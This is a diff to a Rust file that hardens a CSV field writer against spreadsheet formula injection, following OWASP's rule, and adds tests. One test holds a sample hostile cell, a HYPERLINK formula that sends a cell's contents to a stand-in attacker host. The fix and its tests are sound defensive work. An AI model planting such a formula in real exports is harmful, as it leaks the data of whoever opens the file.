@@ -172,9 +172,16 @@ mod erased {
     }
 }
 
-/// A CSV field, quoted (quotes doubled) when it holds a comma, a quote or a space at either end.
+/// A CSV field, quoted (quotes doubled) when it holds a comma, a quote, a line break or a space
+/// at either end. A field a spreadsheet would read as a formula (it starts with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return: OWASP's rule for CSV injection) is written as text: a `'`
+/// before it, and quoted. Any caller can choose a key or a void's reason, so without this an
+/// export opened in a spreadsheet would run what a stranger wrote.
 fn csv_field(f: &str) -> String {
-    if f.contains([',', '"', '\n']) || f.starts_with(' ') || f.ends_with(' ') {
+    if f.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        return format!("\"'{}\"", f.replace('"', "\"\""));
+    }
+    if f.contains([',', '"', '\n', '\r']) || f.starts_with(' ') || f.ends_with(' ') {
         format!("\"{}\"", f.replace('"', "\"\""))
     } else {
         f.to_string()
@@ -466,5 +473,17 @@ mod tests {
         assert_eq!(csv_field("a,b"), "\"a,b\"");
         assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
         assert_eq!(csv_field(" lead"), "\" lead\"");
+        assert_eq!(csv_field("cr\rin"), "\"cr\rin\"");
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_run_are_written_as_text() {
+        let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#;
+        assert_eq!(csv_field(evil), r#""'=HYPERLINK(""http://evil.example/?""&A1,""x"")""#);
+        for lead in ["=", "+", "-", "@", "\t", "\r"] {
+            let f = csv_field(&format!("{lead}1+1"));
+            assert!(f.starts_with("\"'"), "{lead:?}: {f}");
+        }
+        assert_eq!(csv_field("a=b"), "a=b", "only a leading character counts");
     }
 }
